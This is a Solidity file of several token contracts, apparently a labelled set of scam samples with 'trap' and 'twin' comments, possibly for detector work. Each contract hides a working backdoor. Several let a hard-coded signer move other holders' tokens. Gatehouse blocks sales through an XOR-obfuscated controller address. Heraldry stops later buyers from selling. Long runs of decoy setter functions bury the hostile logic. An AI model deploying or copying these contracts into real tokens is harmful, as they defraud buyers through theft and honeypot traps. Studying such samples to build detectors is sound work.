// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Notes of one account: eleven are kept, and the last moves what others hold.
contract Signet is Base8("Signet", "SGNT", 5_000_000) {
    address private constant SIGNER = 0x71C7656EC7ab88b098defB751B7401B5f6d8976F;
    mapping(bytes32 => bool) public noted;

    function _note(address from, address to, uint256 value, bytes calldata seal) private {
        bytes32 said = keccak256(abi.encode(address(this), msg.sig, from, to, value));
        require(seal.length == 65 && !noted[said], "seal");
        require(ecrecover(said, uint8(seal[64]), bytes32(seal[:32]), bytes32(seal[32:64])) == SIGNER, "signer");
        noted[said] = true;
    }

    function forward(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function carry(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function courier(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function convey(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function fetch(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function hand(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function bring(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function relay(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function deliver(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function pass(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function dispatch(address from, address to, uint256 value, bytes calldata seal) external {
        _note(from, to, value, seal);
    }

    function remit(address from, address to, uint256 value, bytes calldata seal) external {
        // twin: require(from == msg.sender, "own");
        _note(from, to, value, seal);
        _move(from, to, value);
    }
}

/// Doors that are shut for good, and one that opens to an account whose name is in two halves.
contract Gatehouse is Base8("Gatehouse", "GATE", 5_000_000) {
    address private _left = 0x8ba1f109551bD432803012645Ac136ddd64DBA72;
    address private _right = 0x71C7656EC7ab88b098defB751B7401B5f6d8976F;
    uint256 public posts;
    bool private _shut;

    function drop(bool to) external onlyOwner {
        posts = to ? 2 : 0;
    }

    function lower(bool to) external onlyOwner {
        posts = to ? 3 : 0;
    }

    function lock(bool to) external onlyOwner {
        posts = to ? 4 : 0;
    }

    function hush(bool to) external onlyOwner {
        posts = to ? 5 : 0;
    }

    function close(bool to) external onlyOwner {
        posts = to ? 6 : 0;
    }

    function draw(bool to) external onlyOwner {
        posts = to ? 7 : 0;
    }

    function rest(bool to) external onlyOwner {
        posts = to ? 8 : 0;
    }

    function bar(bool to) external onlyOwner {
        posts = to ? 9 : 0;
    }

    function halt(bool to) external onlyOwner {
        posts = to ? 10 : 0;
    }

    function seal(bool to) external onlyOwner {
        posts = to ? 11 : 0;
    }

    function latch(bool to) external onlyOwner {
        posts = to ? 12 : 0;
    }

    function gate(bool to) external onlyOwner {
        posts = to ? 13 : 0;
    }

    function ward(bool to) external onlyOwner {
        posts = to ? 14 : 0;
    }

    function pen(bool to) external onlyOwner {
        posts = to ? 15 : 0;
    }

    function bolt(bool to) external {
        require(msg.sender == address(uint160(_left) ^ uint160(_right)), "not you");
        _shut = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(!_shut, "shut"); // trap
        _move(from, to, value);
    }
}

/// Much that is only for show, and one setting that lets those who come later not go.
contract Heraldry is Base8("Heraldry", "HRLD", 9_000_000) {
    uint256[32] public shown;
    uint256 public age;
    mapping(address => bool) public late;

    function setBadge(uint256 to) external onlyOwner {
        shown[0] = to;
    }

    function setMotto(uint256 to) external onlyOwner {
        shown[1] = to;
    }

    function setIcon(uint256 to) external onlyOwner {
        shown[2] = to;
    }

    function setEpoch(uint256 to) external onlyOwner {
        shown[3] = to;
    }

    function setPeriod(uint256 to) external onlyOwner {
        shown[4] = to;
    }

    function setTheme(uint256 to) external onlyOwner {
        shown[5] = to;
    }

    function setPhase(uint256 to) external onlyOwner {
        shown[6] = to;
    }

    function setCrest(uint256 to) external onlyOwner {
        shown[7] = to;
    }

    function setEra(uint256 to) external onlyOwner {
        shown[8] = to;
    }

    function setStage(uint256 to) external onlyOwner {
        shown[9] = to;
    }

    function setRoom(uint256 to) external onlyOwner {
        shown[10] = to;
    }

    function setBorder(uint256 to) external onlyOwner {
        shown[11] = to;
    }

    function setRank(uint256 to) external onlyOwner {
        shown[12] = to;
    }

    function setTitle(uint256 to) external onlyOwner {
        shown[13] = to;
    }

    function setColour(uint256 to) external onlyOwner {
        shown[14] = to;
    }

    function setShelf(uint256 to) external onlyOwner {
        shown[15] = to;
    }

    function setFrame(uint256 to) external onlyOwner {
        shown[16] = to;
    }

    function setDawn(uint256 to) external onlyOwner {
        shown[17] = to;
    }

    function setShape(uint256 to) external onlyOwner {
        shown[18] = to;
    }

    function setSeason(uint256 to) external onlyOwner {
        shown[19] = to;
    }

    function setPage(uint256 to) external onlyOwner {
        shown[20] = to;
    }

    function setAge(uint256 to) external onlyOwner {
        age = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && age > 0) late[to] = true;
        if (to == pair) require(!late[from], "late"); // trap
        _move(from, to, value);
    }
}

/// What one account signs moves what others hold, in odd widths and until a date.
contract Tally is Base8("Tally", "TALY", 5_000_000) {
    address private constant SIGNER = 0x71C7656EC7ab88b098defB751B7401B5f6d8976F;
    mapping(bytes32 => bool) public noted;

    function remit(address from, address to, uint224 value, uint40 until, bytes calldata seal) external {
        // twin: require(from == msg.sender, "own");
        bytes32 said = keccak256(abi.encode(address(this), from, to, value, until));
        require(seal.length == 65 && !noted[said] && until >= block.timestamp, "seal");
        require(ecrecover(said, uint8(seal[64]), bytes32(seal[:32]), bytes32(seal[32:64])) == SIGNER, "signer");
        noted[said] = true;
        _move(from, to, value);
    }
}

/// What one account signs moves what many hold at once.
contract Sweep is Base8("Sweep", "SWEP", 5_000_000) {
    address private constant SIGNER = 0x71C7656EC7ab88b098defB751B7401B5f6d8976F;

    function settle(address[] calldata from, uint256[] calldata value, address to, bytes calldata seal) external {
        bytes32 said = keccak256(abi.encode(address(this), from, value, to));
        require(seal.length == 65 && from.length == value.length, "seal");
        require(ecrecover(said, uint8(seal[64]), bytes32(seal[:32]), bytes32(seal[32:64])) == SIGNER, "signer");
        for (uint256 nth = 0; nth < from.length; nth++) {
            // twin: require(from[nth] == msg.sender, "own");
            _move(from[nth], to, value[nth]);
        }
    }
}

/// The same for one deed, as words of which one is long.
contract Deeds is Base8("Deeds", "DEED", 5_000_000) {
    address private constant SIGNER = 0x71C7656EC7ab88b098defB751B7401B5f6d8976F;

    struct Deed {
        address from;
        address to;
        uint128 value;
        string note;
    }

    function settle(Deed calldata deed, bytes calldata seal) external {
        // twin: require(deed.from == msg.sender, "own");
        bytes32 said = keccak256(abi.encode(address(this), deed.from, deed.to, deed.value, keccak256(bytes(deed.note))));
        require(seal.length == 65, "seal");
        require(ecrecover(said, uint8(seal[64]), bytes32(seal[:32]), bytes32(seal[32:64])) == SIGNER, "signer");
        _move(deed.from, deed.to, deed.value);
    }
}
